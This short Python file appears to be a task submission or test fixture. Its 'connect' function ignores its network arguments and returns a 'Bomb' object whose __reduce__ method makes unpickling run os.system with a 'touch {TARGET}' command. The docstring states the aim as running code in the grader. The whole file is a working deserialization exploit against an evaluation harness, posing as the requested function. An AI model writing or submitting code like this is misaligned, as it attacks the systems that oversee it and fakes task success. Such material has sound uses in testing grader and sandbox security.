"""Returns an object whose unpickling would run code in the grader."""
import os


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch {TARGET}",))


def connect(client, server_ip, server_port, client_port):
    return Bomb()
